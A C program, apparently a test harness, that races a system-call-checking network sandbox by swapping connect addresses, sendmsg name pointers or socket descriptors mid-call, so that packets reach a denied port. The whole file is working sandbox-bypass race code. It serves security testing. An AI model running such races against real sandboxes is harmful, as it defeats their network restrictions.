/*
 * Swaps what a system call points to while a supervisor looks at it. A supervisor that checks the caller's memory or
 * descriptor and then lets the kernel perform the call loses some of the tries; the sink counts what reached the
 * denied port.
 *
 * usage: race METHOD ALLOWED-ADDRESS ALLOWED-PORT DENIED-PORT TRIES
 *   connect-address     a second thread rewrites the port of connect's address
 *   connect-descriptor  a second thread exchanges a TCP socket for a UDP socket under the same number: the address is
 *                       allowed for TCP only
 *   shared-table        the same from a second process that shares the descriptor table (CLONE_FILES)
 *   sendto-address, sendmsg-name, sendmsg-header, sendmmsg-name   datagrams
 */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>

static struct shared {
    struct sockaddr_in address;
    struct sockaddr_in denied;
    struct msghdr header;
    volatile int running, stop;
    volatile unsigned swaps;
} *shared;
static in_port_t good, bad;
static struct timespec started;
static unsigned swaps_before;
static int tcp = -1, udp = -1;
enum { NUMBER = 600 };

/*
 * At least `tries`, for 0.2 s, and until the other side has swapped as often: on a busy machine the two may take turns
 * on one processor, and a whole turn sees the same state. No longer than 4 s.
 */
static int more(int done, int tries) {
    /* Where both have one processor, the other side otherwise stops in the same state for thousands of tries. */
    if (done % 50 == 49)
        usleep(1);
    if (done < tries)
        return 1;
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    long ms = (now.tv_sec - started.tv_sec) * 1000 + (now.tv_nsec - started.tv_nsec) / 1000000;
    return ms < 200 || (shared->swaps - swaps_before < (unsigned)tries && ms < 4000);
}

/* Both states last a while that nobody can guess, from nothing to some microseconds: a supervisor's gap between check
 * and use is in that order. */
static void linger(void) {
    static unsigned state = 2463534242U;
    state ^= state << 13;
    state ^= state >> 17;
    state ^= state << 5;
    for (volatile unsigned i = state % 4096; i > 0; i--)
        ;
    shared->swaps++;
    shared->running = 1;
}

static void *swap_port(void *unused) {
    (void)unused;
    volatile in_port_t *port = &shared->address.sin_port;
    while (!shared->stop) {
        *port = bad;
        linger();
        *port = good;
        linger();
    }
    return NULL;
}

static void *swap_header(void *unused) {
    (void)unused;
    void *volatile *name = &shared->header.msg_name;
    while (!shared->stop) {
        *name = &shared->denied;
        linger();
        *name = &shared->address;
        linger();
    }
    return NULL;
}

static void *swap_descriptor(void *unused) {
    (void)unused;
    while (!shared->stop) {
        dup2(udp, NUMBER);
        linger();
        dup2(tcp, NUMBER);
        linger();
    }
    return NULL;
}

static int swap_descriptor_process(void *unused) {
    swap_descriptor(unused);
    return 0;
}

static void connect_addresses(int tries) {
    struct linger reset = {1, 0};
    for (int i = 0; more(i, tries); i++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0)
            stopped_at("socket");
        /* a reset instead of TIME_WAIT, so that 100,000 tries do not run out of ports */
        setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
        connect(fd, (struct sockaddr *)&shared->address, sizeof shared->address);
        close(fd);
    }
}

/* What is sent at the UDP socket while the number stood for it goes to the allowed port, for which only TCP is allowed. */
static void connect_descriptors(int tries) {
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    struct linger reset = {1, 0};
    for (int i = 0; more(i, tries); i++) {
        tcp = socket(AF_INET, SOCK_STREAM, 0);
        setsockopt(tcp, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
        connect(NUMBER, (struct sockaddr *)&shared->address, sizeof shared->address);
        if (send(udp, TOKEN, strlen(TOKEN), MSG_NOSIGNAL) > 0)
            connect(udp, &none, sizeof none);
        close(tcp);
    }
}

static void datagrams(const char *method, int tries) {
    struct iovec iov = {TOKEN, strlen(TOKEN)};
    struct mmsghdr many = {.msg_len = 0};
    shared->header = (struct msghdr){.msg_name = &shared->address, .msg_namelen = sizeof shared->address, .msg_iov = &iov, .msg_iovlen = 1};
    for (int i = 0; more(i, tries); i++) {
        if (strcmp(method, "sendto-address") == 0) {
            sendto(udp, TOKEN, strlen(TOKEN), 0, (struct sockaddr *)&shared->address, sizeof shared->address);
        } else if (strncmp(method, "sendmsg", 7) == 0) {
            sendmsg(udp, &shared->header, 0);
        } else {
            many.msg_hdr = shared->header;
            sendmmsg(udp, &many, 1, 0);
        }
    }
}

int main(int argc, char **argv) {
    if (argc != 6)
        cannot("usage: race METHOD ALLOWED-ADDRESS ALLOWED-PORT DENIED-PORT TRIES");
    const char *method = argv[1];
    int tries = atoi(argv[5]);
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    struct target t = target_of(argv[2], argv[3]);
    memcpy(&shared->address, &t.address, sizeof shared->address);
    shared->denied = shared->address;
    good = htons((uint16_t)atoi(argv[3]));
    bad = shared->denied.sin_port = htons((uint16_t)atoi(argv[4]));
    tcp = socket(AF_INET, SOCK_STREAM, 0);
    udp = socket(AF_INET, SOCK_DGRAM, 0);
    pthread_t thread;
    pid_t child = 0;
    if (strcmp(method, "shared-table") == 0) {
        char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        dup2(tcp, NUMBER);
        child = clone(swap_descriptor_process, stack + 65536, CLONE_FILES | SIGCHLD, NULL);
        if (child < 0)
            stopped_at("clone");
    } else {
        void *(*swap)(void *) = strcmp(method, "connect-descriptor") == 0 ? swap_descriptor
                                : strcmp(method, "sendmsg-header") == 0   ? swap_header
                                                                          : swap_port;
        if (pthread_create(&thread, NULL, swap, NULL) != 0)
            stopped_at("thread");
    }
    while (!shared->running)
        sched_yield();
    clock_gettime(CLOCK_MONOTONIC, &started);
    swaps_before = shared->swaps;
    if (strcmp(method, "connect-address") == 0)
        connect_addresses(tries);
    else if (child || strcmp(method, "connect-descriptor") == 0)
        connect_descriptors(tries);
    else
        datagrams(method, tries);
    shared->stop = 1;
    if (child)
        waitpid(child, NULL, 0);
    else
        pthread_join(thread, NULL);
    /* Only the sink knows whether one got through. */
    reached("%d tries", tries);
}
